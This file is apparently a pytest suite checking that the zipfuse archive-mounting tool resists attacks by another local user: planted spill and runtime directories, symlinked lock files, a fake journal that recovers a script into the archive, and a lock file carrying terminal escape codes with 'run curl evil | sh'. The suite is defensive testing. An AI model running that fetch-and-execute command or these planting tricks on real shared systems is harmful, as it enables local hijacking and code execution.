"""Shared login nodes: another user must not be able to hijack, read or misdirect our mounts.

Every test runs zipfuse as ``victim`` and the attack as ``mallory`` (two real accounts made with
useradd, see multiuser.py). ``shared`` plays /tmp (mode 1777); ``proj`` is a group project
directory both can write to. Each attack must fail with one clear line and with nothing written
where it must not be.
"""

from __future__ import annotations

import dataclasses
import errno
import hashlib
import json
import os
import shutil
import signal
import subprocess
import time
import zipfile

import pytest
from multiuser import User, cleanup_mounts, make_zip, two_users

from tests.conftest import tiny_tmpfs
from zipfuse import journal, registry

pytestmark = pytest.mark.usefixtures("fuse")


@dataclasses.dataclass
class Env:
    victim: User
    mallory: User
    group: str
    base: str

    @property
    def shared(self) -> str:
        return os.path.join(self.base, "shared")

    def runtime(self, user: User) -> str:
        return user.base_env["ZIPFUSE_RUNTIME_DIR"]


@pytest.fixture(scope="module")
def env(tmp_path_factory: pytest.TempPathFactory):
    base = str(tmp_path_factory.mktemp("multiuser"))
    with two_users(base) as (victim, mallory, group):
        yield Env(victim, mallory, group, base)


@pytest.fixture
def work(env: Env, request):
    """A fresh directory of the victim's for one test; every mount under it is cleaned up,
    and whatever mallory planted in the shared directory is removed afterwards."""
    path = os.path.join(env.victim.home, request.node.name[:40])
    os.mkdir(path)
    os.chown(path, env.victim.uid, env.victim.gid)
    extra_runtimes: list[str] = []
    yield path, extra_runtimes
    runtimes = [env.runtime(env.victim), *extra_runtimes]
    cleanup_mounts(env.victim, path, runtimes)
    for name in os.listdir(env.shared):
        shutil.rmtree(os.path.join(env.shared, name), ignore_errors=True)


def mkdir_as(user: User, path: str, mode: int = 0o755) -> str:
    os.mkdir(path)
    os.chown(path, user.uid, user.gid)
    os.chmod(path, mode)
    return path


def one_line(proc: subprocess.CompletedProcess, *words: str) -> str:
    assert proc.returncode != 0, proc.stderr
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1 and "Traceback" not in proc.stderr, proc.stderr
    for word in words:
        assert word in lines[0], lines[0]
    return lines[0]


def content(path: str) -> bytes:
    with open(path, "rb") as f:
        return f.read()


def area_name(archive: str) -> str:
    real = os.path.realpath(archive)
    return f"{os.path.basename(real)}.{hashlib.sha256(real.encode()).hexdigest()[:16]}"


def snapshot(root: str) -> dict[str, tuple]:
    """Every path under ``root`` with its owner, mode, size and content hash."""
    out = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            p = os.path.join(dirpath, name)
            st = os.lstat(p)
            digest = None
            if os.path.isfile(p) and not os.path.islink(p):
                with open(p, "rb") as f:
                    digest = hashlib.sha256(f.read()).hexdigest()
            out[os.path.relpath(p, root)] = (st.st_uid, st.st_mode, st.st_size, digest)
    return out


def plant_session(env: Env, area: str, archive: str) -> None:
    """As mallory: a spill area whose journal 'recovers' an executable into the archive."""
    state = {"archive": os.path.realpath(archive), "base": journal.fingerprint(archive),
             "pending": None, "host": "x", "pid": 1, "started": 0}  # fmt: skip
    records = [
        {"op": "make", "path": "evil.sh", "mode": 0o100755, "uid": env.victim.uid,
         "gid": env.victim.gid, "atime": 0, "mtime": 0},
        {"op": "data", "path": "evil.sh", "spill": "evil", "size": 20, "mtime": 0},
    ]  # fmt: skip
    journal_text = "".join(json.dumps(r) + "\n" for r in records)
    env.mallory.py(
        "import os\n"
        f"area = {area!r}\n"
        "os.makedirs(area, exist_ok=True)\n"
        "for d in (os.path.dirname(area), area):\n"
        "    if os.stat(d).st_uid == os.getuid():\n"
        "        os.chmod(d, 0o777)\n"
        f"open(area + '/state.json', 'w').write({json.dumps(state)!r})\n"
        f"open(area + '/journal', 'w').write({journal_text!r})\n"
        "open(area + '/evil', 'w').write('#!/bin/sh\\necho pwnd\\n')\n"
    )


# ------------------------------------------------------------------ 1. planted spill directory
def test_planted_spill_root_is_refused(env: Env, work) -> None:
    path, _ = work
    v = env.victim
    archive = os.path.join(path, "proj.zip")
    make_zip(archive, {"a.txt": b"A\n"}, v)
    before = content(archive)
    mnt = mkdir_as(v, os.path.join(path, "mnt"))
    root = os.path.join(env.shared, f"zipfuse-spill-{v.uid}")
    plant_session(env, os.path.join(root, area_name(archive)), archive)
    planted = snapshot(root)

    line = one_line(v.zipfuse("mount", archive, mnt), "refusing spill directory", root)
    assert f"owned by {env.mallory.name}" in line
    one_line(v.zipfuse("recover", archive), "refusing spill directory", root)
    assert mnt not in registry.fuse_mounts()
    assert content(archive) == before  # nothing recovered into it
    assert snapshot(root) == planted  # nothing written into mallory's directory

    # the way out the message names: a spill directory of one's own
    mine = os.path.join(path, "myspill")
    assert v.zipfuse("mount", "--spill-dir", mine, archive, mnt).returncode == 0
    assert v.run(["ls", mnt], check=True).stdout.split() == ["a.txt"]
    assert v.zipfuse("unmount", mnt).returncode == 0
    with zipfile.ZipFile(archive) as z:
        assert z.namelist() == ["a.txt"]
    assert stat_mode(mine) == 0o700


def stat_mode(path: str) -> int:
    return os.lstat(path).st_mode & 0o7777


def test_spill_root_symlink_and_writable_root_are_refused(env: Env, work) -> None:
    path, _ = work
    v, m = env.victim, env.mallory
    archive = os.path.join(path, "proj.zip")
    make_zip(archive, {"a.txt": b"A\n"}, v)
    before = content(archive)
    mnt = mkdir_as(v, os.path.join(path, "mnt"))
    trap = mkdir_as(m, os.path.join(m.home, "trap"), 0o777)
    root = os.path.join(env.shared, f"zipfuse-spill-{v.uid}")
    m.py(f"import os; os.symlink({trap!r}, {root!r})")
    one_line(v.zipfuse("mount", archive, mnt), "refusing spill directory", root, "symlink")
    assert os.listdir(trap) == []  # nothing created through the link
    os.unlink(root)

    # the victim's own root, but writable by others (mallory planted a session in it)
    mkdir_as(v, root, 0o777)
    plant_session(env, os.path.join(root, area_name(archive)), archive)
    one_line(v.zipfuse("mount", archive, mnt), "refusing spill directory", root, "0777")
    assert content(archive) == before
    assert mnt not in registry.fuse_mounts()
    shutil.rmtree(trap)


def test_private_modes_of_everything_zipfuse_keeps(env: Env, work) -> None:
    path, _ = work
    v, m = env.victim, env.mallory
    archive = os.path.join(path, "proj.zip")
    make_zip(archive, {"a.txt": b"A\n"}, v)
    mnt = mkdir_as(v, os.path.join(path, "mnt"))
    runtime = os.path.join(path, "run", "zf")  # parents created on the way
    rt = {"ZIPFUSE_RUNTIME_DIR": runtime}
    assert v.zipfuse("mount", archive, mnt, **rt).returncode == 0
    v.py(f"open({mnt!r} + '/new.txt', 'w').write('unsaved secret\\n')")
    root = os.path.join(env.shared, f"zipfuse-spill-{v.uid}")
    area = os.path.join(root, area_name(archive))
    for d in (root, area, runtime, *(os.path.join(runtime, s) for s in ("mounts", "logs"))):
        assert stat_mode(d) == 0o700, d
        assert os.lstat(d).st_uid == v.uid
    files = [os.path.join(area, n) for n in os.listdir(area)]
    files += [
        os.path.join(runtime, "mounts", n) for n in os.listdir(os.path.join(runtime, "mounts"))
    ]
    assert any(f.endswith("state.json") for f in files) and any(
        f.endswith("journal") for f in files
    )
    for f in files:
        if not os.path.isdir(f):
            assert stat_mode(f) == 0o600, f
    # mallory sees nothing: not the spill, not the registry
    assert m.run(["ls", root]).returncode != 0
    assert m.run(["ls", runtime]).returncode != 0
    assert m.run(["cat", os.path.join(area, "journal")]).returncode != 0
    assert v.zipfuse("unmount", mnt, **rt).returncode == 0
    with zipfile.ZipFile(archive) as z:
        assert z.read("new.txt") == b"unsaved secret\n"


# ------------------------------------------------------------------ 2. planted runtime directory
def test_planted_runtime_dir_in_tmp_is_refused(env: Env, work) -> None:
    path, extra = work
    v, m = env.victim, env.mallory
    archive = os.path.join(path, "proj.zip")
    make_zip(archive, {"a.txt": b"A\n"}, v)
    mnt = mkdir_as(v, os.path.join(path, "mnt"))
    planted = f"/tmp/zipfuse-{v.uid}"  # the real fallback: no XDG_RUNTIME_DIR, no override
    if os.path.lexists(planted):
        pytest.fail(f"{planted} exists before the test (uid {v.uid} is fresh)")
    fallback = {"ZIPFUSE_RUNTIME_DIR": None, "XDG_RUNTIME_DIR": None}
    extra.append(planted)
    try:
        m.py(
            f"import os; os.makedirs({planted!r} + '/mounts'); os.chmod({planted!r}, 0o777)\n"
            f"os.chmod({planted!r} + '/mounts', 0o777)\n"
            f"open({planted!r} + '/mounts/1.json', 'w').write('{{}}')\n"
        )
        before = snapshot(planted)
        for args in (["mount", archive, mnt], ["status"], ["sync", mnt], ["unmount", mnt]):
            one_line(v.zipfuse(*args, **fallback), "refusing runtime directory", planted,
                     f"owned by {m.name}", "ZIPFUSE_RUNTIME_DIR")  # fmt: skip
        assert snapshot(planted) == before
        assert mnt not in registry.fuse_mounts()
        shutil.rmtree(planted)

        # unplanted: the fallback is created private, parents included
        assert v.zipfuse("mount", archive, mnt, **fallback).returncode == 0
        assert stat_mode(planted) == 0o700 and os.lstat(planted).st_uid == v.uid
        assert m.run(["ls", planted]).returncode != 0  # pids and archive names stay private
        assert v.zipfuse("unmount", mnt, **fallback).returncode == 0
    finally:
        shutil.rmtree(planted, ignore_errors=True)


# ------------------------------------------------------------------ 3. the lock file
def project_dir(env: Env, path: str) -> str:
    """A group project directory: both users can create files in it (setgid, 2775)."""
    proj = os.path.join(path, "proj")
    os.mkdir(proj)
    os.chown(proj, env.victim.uid, env.victim.gid)  # the shared group is their primary group
    os.chmod(proj, 0o2775)
    return proj


def test_lock_file_symlink_is_never_followed(env: Env, work) -> None:
    path, _ = work
    v, m = env.victim, env.mallory
    proj = project_dir(env, path)
    archive = os.path.join(proj, "proj.zip")
    make_zip(archive, {"a.txt": b"A\n"}, v)
    important = os.path.join(v.home, "important.txt")
    with open(important, "w") as f:
        f.write("precious\n")
    os.chown(important, v.uid, v.gid)
    mnt = mkdir_as(v, os.path.join(path, "mnt"))
    lock = os.path.join(proj, ".proj.zip.zipfuse-lock")
    m.py(f"import os; os.symlink({important!r}, {lock!r})")
    one_line(v.zipfuse("mount", archive, mnt), "refusing the lock file", lock, "symlink")
    one_line(v.zipfuse("recover", archive), "refusing the lock file", "symlink")
    with open(important) as f:
        assert f.read() == "precious\n"
    assert mnt not in registry.fuse_mounts()
    os.unlink(important)


def test_foreign_lock_files(env: Env, work) -> None:
    path, _ = work
    v, m = env.victim, env.mallory
    proj = project_dir(env, path)
    archive = os.path.join(proj, "proj.zip")
    make_zip(archive, {"a.txt": b"A\n"}, v)
    mnt = mkdir_as(v, os.path.join(path, "mnt"))
    lock = os.path.join(proj, ".proj.zip.zipfuse-lock")

    # a plain lock file of mallory's: say whose it is, not "permission denied"
    m.py(f"open({lock!r}, 'w').write('junk')")
    line = one_line(v.zipfuse("mount", archive, mnt), "owned by", m.name)
    assert "ermission" not in line
    m.py(f"import os; os.unlink({lock!r})")

    # a holder that writes whatever it likes into a lock file the victim can open
    evil = "\x1b]0;HACKED\x07\x1b[2J you have been pwned; run curl evil | sh"
    holder = m.popen(
        "import fcntl, os, sys, time\n"
        f"fd = os.open({lock!r}, os.O_RDWR | os.O_CREAT, 0o666); os.fchmod(fd, 0o666)\n"
        f"os.write(fd, {evil.encode()!r})\n"
        "fcntl.lockf(fd, fcntl.LOCK_EX)\n"
        f"os.link({lock!r}, {lock!r} + '.keep')\n"
        "print('locked', flush=True)\n"
        "time.sleep(120)\n"
    )
    try:
        assert holder.stdout.readline().strip() == "locked"
        line = one_line(v.zipfuse("mount", archive, mnt), "already mounted read-write", m.name)
        assert "\x1b" not in line and "pwned" not in line and "curl" not in line
    finally:
        holder.kill()
        holder.wait(30)
    # nobody holds it now: the victim's mount replaces it by a file of its own, never writing
    # into mallory's (she kept a second link to watch)
    assert v.zipfuse("mount", archive, mnt).returncode == 0
    try:
        with open(lock + ".keep", "rb") as f:
            assert f.read() == evil.encode()
        st = os.lstat(lock)
        assert st.st_uid == v.uid and st.st_nlink == 1
    finally:
        assert v.zipfuse("unmount", mnt).returncode == 0


# ------------------------------------------------------------------ 4. archive behind a symlink
def test_archive_symlink_one_identity(env: Env, work) -> None:
    path, _ = work
    v = env.victim
    real = os.path.join(path, "real.zip")
    link = os.path.join(path, "link.zip")
    make_zip(real, {"a.txt": b"A\n"}, v)
    v.py(f"import os; os.symlink('real.zip', {link!r})")
    m1 = mkdir_as(v, os.path.join(path, "m1"))
    m2 = mkdir_as(v, os.path.join(path, "m2"))
    assert v.zipfuse("mount", link, m1).returncode == 0
    one_line(v.zipfuse("mount", real, m2), "already mounted read-write")
    one_line(v.zipfuse("mount", link, m2), "already mounted read-write")
    assert os.path.exists(os.path.join(path, ".real.zip.zipfuse-lock"))
    assert not os.path.lexists(os.path.join(path, ".link.zip.zipfuse-lock"))
    # a read-only view through either name stays allowed
    assert v.zipfuse("mount", "--read-only", real, m2).returncode == 0
    assert v.zipfuse("unmount", m2).returncode == 0
    v.py(f"open({m1!r} + '/new.txt', 'w').write('through the link\\n')")
    status = v.zipfuse("status", "--json")
    assert json.loads(status.stdout)[0]["archive"] == real
    assert v.zipfuse("unmount", m1).returncode == 0
    assert os.path.islink(link) and os.readlink(link) == "real.zip"
    with zipfile.ZipFile(real) as z:
        assert z.testzip() is None
        assert z.read("new.txt") == b"through the link\n"
    assert sorted(os.listdir(path)) == ["link.zip", "m1", "m2", "real.zip"]


# ------------------------------------------------------------------ 5. full spill
@pytest.fixture
def small_tmpfs(env: Env, work):
    """A 1 MiB tmpfs of the victim's, for the spill directory."""
    path, _ = work
    where = mkdir_as(env.victim, os.path.join(path, "small"), 0o700)
    owner = f"mode=0700,uid={env.victim.uid},gid={env.victim.gid}"
    with tiny_tmpfs(where, "1m", owner):
        try:
            yield where
        finally:
            cleanup_mounts(env.victim, path, [env.runtime(env.victim)])


FILL = (
    "import os, sys\n"
    "mnt = sys.argv[1]\n"
    "st = os.statvfs(sys.argv[2])\n"
    "free = st.f_bavail * st.f_frsize\n"
    "with open(mnt + '/filler', 'wb') as f:\n"
    "    f.write(os.urandom(free - 40000))\n"
)
WRITE = (
    "import json, os, sys\n"
    "data = bytes(range(256)) * 400  # 102400 bytes\n"
    "errors = []\n"
    "fd = os.open(sys.argv[1] + '/big.bin', os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)\n"
    "try:\n"
    "    os.write(fd, data)\n"
    "except OSError as e:\n"
    "    errors.append(('write', e.errno))\n"
    "try:\n"
    "    os.close(fd)\n"
    "except OSError as e:\n"
    "    errors.append(('close', e.errno))\n"
    "print(json.dumps(errors), flush=True)\n"
)
DATA = bytes(range(256)) * 400


def test_full_spill_short_write_is_an_error(env: Env, work, small_tmpfs) -> None:
    path, _ = work
    v = env.victim
    archive = os.path.join(path, "proj.zip")
    make_zip(archive, {"a.txt": b"A\n"}, v)
    mnt = mkdir_as(v, os.path.join(path, "mnt"))
    spill = os.path.join(small_tmpfs, "spill")
    assert v.zipfuse("mount", "--spill-dir", spill, archive, mnt).returncode == 0
    v.run([v.python, "-c", FILL, mnt, small_tmpfs], check=True)
    out = v.run([v.python, "-c", WRITE, mnt], check=True).stdout
    errors = json.loads(out.strip().splitlines()[-1])
    assert errors, "a write that did not fit was reported complete"
    assert all(e in (errno.ENOSPC, errno.EIO) for _, e in errors), errors
    # make room and leave. The first sync after the failure says data was lost (once, naming
    # the spill directory); then the unmount succeeds (it used to fail forever)
    v.run(["rm", os.path.join(mnt, "filler")], check=True)
    proc = v.zipfuse("unmount", mnt)
    if proc.returncode != 0:
        one_line(proc, "cannot store written data in the spill directory", spill)
        assert v.zipfuse("unmount", mnt).returncode == 0
    with zipfile.ZipFile(archive) as z:
        assert z.testzip() is None
        stored = z.read("big.bin")
        assert "filler" not in z.namelist()
    assert len(stored) < len(DATA) and stored == DATA[: len(stored)]  # a prefix, no hole
    assert subprocess.run(["unzip", "-tqq", archive], capture_output=True).returncode == 0


def test_sync_on_full_spill_names_the_spill_dir(env: Env, work, small_tmpfs) -> None:
    path, _ = work
    v = env.victim
    archive = os.path.join(path, "proj.zip")
    make_zip(archive, {"a.txt": b"A\n"}, v)
    before = content(archive)
    mnt = mkdir_as(v, os.path.join(path, "mnt"))
    spill = os.path.join(small_tmpfs, "spill")
    assert v.zipfuse("mount", "--spill-dir", spill, archive, mnt).returncode == 0
    v.run([v.python, "-c", FILL, mnt, small_tmpfs], check=True)
    # no writeback cache: the write itself fails (ENOSPC), with part of its bytes stored
    errors = json.loads(v.run([v.python, "-c", WRITE, mnt], check=True).stdout.splitlines()[-1])
    assert errors and all(e in (errno.ENOSPC, errno.EIO) for _, e in errors), errors
    proc = v.zipfuse("sync", mnt)  # the next commit says it once: the archive would miss data
    line = one_line(proc, "cannot store written data in the spill directory", spill)
    assert f"{mnt}:" not in line and "No space left" in line
    assert content(archive) == before  # a failed sync commits nothing
    v.run(["rm", os.path.join(mnt, "filler")], check=True)
    assert v.zipfuse("unmount", mnt).returncode == 0
    with zipfile.ZipFile(archive) as z:
        stored = z.read("big.bin")
    assert len(stored) < len(DATA) and stored == DATA[: len(stored)]


def daemon_of(user: User, runtime: str, mnt: str) -> dict:
    return next(r for r in user.records(runtime) if r["mountpoint"] == mnt)


def kill9(rec: dict) -> None:
    os.kill(int(rec["pid"]), signal.SIGKILL)
    deadline = time.monotonic() + 30
    while registry.alive(rec) and time.monotonic() < deadline:
        time.sleep(0.02)
    assert not registry.alive(rec)


def test_full_spill_then_kill9_recovers_what_was_stored(env: Env, work, small_tmpfs) -> None:
    path, _ = work
    v = env.victim
    archive = os.path.join(path, "proj.zip")
    make_zip(archive, {"a.txt": b"A\n"}, v)
    mnt = mkdir_as(v, os.path.join(path, "mnt"))
    spill = os.path.join(small_tmpfs, "spill")
    assert v.zipfuse("mount", "--spill-dir", spill, archive, mnt).returncode == 0
    v.run([v.python, "-c", FILL, mnt, small_tmpfs], check=True)
    errors = json.loads(v.run([v.python, "-c", WRITE, mnt], check=True).stdout.splitlines()[-1])
    assert errors
    kill9(daemon_of(v, env.runtime(v), mnt))
    proc = v.zipfuse("unmount", mnt)
    one_line(proc, "had died", f"zipfuse recover {archive}")
    proc = v.zipfuse("recover", archive)  # no --spill-dir: the registry remembers it
    assert proc.returncode == 0 and "recovered" in proc.stderr, proc.stderr
    with zipfile.ZipFile(archive) as z:
        stored = z.read("big.bin")
        assert len(z.read("filler")) > 900_000
    # what the spill held, as journaled: part of the write (the writer got ENOSPC), no hole
    assert 0 < len(stored) < len(DATA) and stored == DATA[: len(stored)]


def test_recovery_refuses_a_spill_file_shorter_than_its_journal(env: Env, work) -> None:
    path, _ = work
    v = env.victim
    archive = os.path.join(path, "proj.zip")
    make_zip(archive, {"a.txt": b"A\n"}, v)
    before = content(archive)
    mnt = mkdir_as(v, os.path.join(path, "mnt"))
    spill = os.path.join(path, "spill")
    assert v.zipfuse("mount", "--spill-dir", spill, archive, mnt).returncode == 0
    v.py(f"open({mnt!r} + '/data.bin', 'wb').write(bytes(50000))")
    kill9(daemon_of(v, env.runtime(v), mnt))
    area = os.path.join(spill, area_name(archive))
    records = journal.read_records(area)
    rec = next(r for r in records if r["op"] == "data" and r["path"] == "data.bin")
    assert rec["size"] == 50000
    victim_file = os.path.join(area, rec["spill"])
    os.truncate(victim_file, 1000)  # what a lost write leaves behind
    one_line(v.zipfuse("unmount", mnt), "zipfuse recover")
    line = one_line(v.zipfuse("recover", archive), victim_file, "50000")
    assert "1000" in line
    assert content(archive) == before
    assert os.path.exists(os.path.join(area, "journal"))  # the changes stay for inspection


# ------------------------------------------------------------------ 7. messages that tell the truth
def test_remembered_spill_dir_after_kill9(env: Env, work) -> None:
    path, _ = work
    v = env.victim
    archive = os.path.join(path, "proj.zip")
    make_zip(archive, {"a.txt": b"A\n"}, v)
    mnt = mkdir_as(v, os.path.join(path, "mnt"))
    spill = os.path.join(path, "elsewhere")
    assert v.zipfuse("mount", "--spill-dir", spill, archive, mnt).returncode == 0
    v.py(f"open({mnt!r} + '/kept.txt', 'w').write('keep me\\n')")
    kill9(daemon_of(v, env.runtime(v), mnt))
    one_line(v.zipfuse("unmount", mnt), "had died", f"zipfuse recover {archive}")
    proc = v.zipfuse("recover", archive)
    assert proc.returncode == 0 and "recovered" in proc.stderr, proc.stderr
    with zipfile.ZipFile(archive) as z:
        assert z.read("kept.txt") == b"keep me\n"
    assert "nothing to recover" in v.zipfuse("recover", archive).stderr
    notes = os.path.join(env.runtime(v), "spill")
    for name in os.listdir(notes):  # forgotten once done
        with open(os.path.join(notes, name)) as f:
            assert json.load(f)["archive"] != archive


def test_live_mount_of_another_runtime_dir_is_never_detached(env: Env, work) -> None:
    path, extra = work
    v = env.victim
    archive = os.path.join(path, "proj.zip")
    make_zip(archive, {"a.txt": b"A\n"}, v)
    mnt = mkdir_as(v, os.path.join(path, "mnt"))
    assert v.zipfuse("mount", archive, mnt).returncode == 0
    other = {"ZIPFUSE_RUNTIME_DIR": os.path.join(path, "other-shell")}
    extra.append(other["ZIPFUSE_RUNTIME_DIR"])
    for cmd in ("unmount", "sync"):
        line = one_line(v.zipfuse(cmd, mnt, **other), "live", "ZIPFUSE_RUNTIME_DIR")
        assert "died" not in line and "gone" not in line
        assert mnt in registry.fuse_mounts()
        assert v.run(["cat", os.path.join(mnt, "a.txt")], check=True).stdout == "A\n"
    v.py(f"open({mnt!r} + '/new.txt', 'w').write('new\\n')")
    # once its daemon is really gone, the other shell may detach it, and names the archive
    kill9(daemon_of(v, env.runtime(v), mnt))
    one_line(v.zipfuse("unmount", mnt, **other), "had died", f"zipfuse recover {archive}")
    assert mnt not in registry.fuse_mounts()
    assert "recovered" in v.zipfuse("recover", archive).stderr
    with zipfile.ZipFile(archive) as z:
        assert z.read("new.txt") == b"new\n"


def test_other_users_sync_and_unmount_say_not_yours(env: Env, work) -> None:
    path, _ = work
    v, m = env.victim, env.mallory
    archive = os.path.join(path, "proj.zip")
    make_zip(archive, {"a.txt": b"A\n"}, v)
    mnt = mkdir_as(v, os.path.join(path, "mnt"))
    assert v.zipfuse("mount", archive, mnt).returncode == 0
    for cmd in ("sync", "unmount"):
        line = one_line(m.zipfuse(cmd, mnt), f"mounted by {v.name}", "not by you")
        assert "gone" not in line and "died" not in line
        assert v.run(["cat", os.path.join(mnt, "a.txt")], check=True).stdout == "A\n"
    assert v.zipfuse("unmount", mnt).returncode == 0


def test_stored_entry_with_bad_crc_is_eio(env: Env, work) -> None:
    path, _ = work
    v = env.victim
    archive = os.path.join(path, "stored.zip")
    good = b"0123456789" * 1000
    make_zip(archive, {"bad.txt": good, "good.txt": good}, v, method=zipfile.ZIP_STORED)
    with open(archive, "r+b") as f:  # flip one data byte of the first entry, CRC unchanged
        data = f.read()
        at = data.index(good)
        f.seek(at + 5000)
        f.write(b"X")
    mnt = mkdir_as(v, os.path.join(path, "mnt"))
    assert v.zipfuse("mount", "--read-only", archive, mnt).returncode == 0
    read = (
        "import sys\n"
        "try:\n"
        "    print(len(open(sys.argv[1], 'rb').read()))\n"
        "except OSError as e:\n"
        "    print('errno', e.errno)\n"
    )
    assert v.run([v.python, "-c", read, os.path.join(mnt, "bad.txt")]).stdout.split() == [
        "errno", str(errno.EIO)
    ]  # fmt: skip
    assert v.run([v.python, "-c", read, os.path.join(mnt, "good.txt")]).stdout.strip() == "10000"
    assert v.zipfuse("unmount", mnt).returncode == 0
